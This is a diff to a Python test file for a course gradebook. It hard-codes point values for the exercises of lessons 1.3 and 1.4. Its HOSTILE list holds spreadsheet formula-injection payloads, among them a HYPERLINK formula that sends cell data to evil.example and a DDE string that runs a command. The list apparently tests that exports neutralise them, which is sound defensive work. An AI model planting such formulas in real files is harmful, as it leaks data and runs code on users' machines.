@@ -1,18 +1,19 @@
-"""Students with marks in lessons 1.3 and 1.4: two cases per exercise, each worth half of it."""
+"""Students with marks in exercises of lessons 1.3 and 1.4, 40 points: two cases per exercise, each worth half of it."""
 
 from collections.abc import Callable, Sequence
 from fractions import Fraction
 
 import pytest
 
-from shardlab.grade.course import Course
 from shardlab.grade.gradebook.record import CaseRecord, RankRecord, Verdict
 from shardlab.grade.gradebook.standing import Standing, Student, marks_of
-from shardlab.grade.manifest import Exercise, exercises
-from shardlab.syllabus import ROOT
+from shardlab.grade.manifest import Exercise
+from shardlab.syllabus import lesson
 
-Fails = dict[str, tuple[Verdict, str] | CaseRecord]
-
+POINTS = {
+    "1.3": {"exchange": 4, "broadcast": 6, "ring_all_reduce": 12},
+    "1.4": {"meet": 9, "replay": 3, "slow_ranks": 6},
+}
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -39,8 +40,9 @@ HONEST = ["Łukasz Żółć", "محمد بن موسى الخوارزمي", "王�
 
 @pytest.fixture(scope="session")
 def declared() -> list[Exercise]:
-    course = Course(ROOT)
-    return [one for id in ("1.3", "1.4") for one in exercises(course, course.lessons[id]).values()]
+    return [
+        Exercise(lesson(id), name, points) for id, of_lesson in POINTS.items() for name, points in of_lesson.items()
+    ]
 
 
 def case_of(exercise: Exercise, number: int, verdict: Verdict, message: str = "", **more: object) -> CaseRecord:
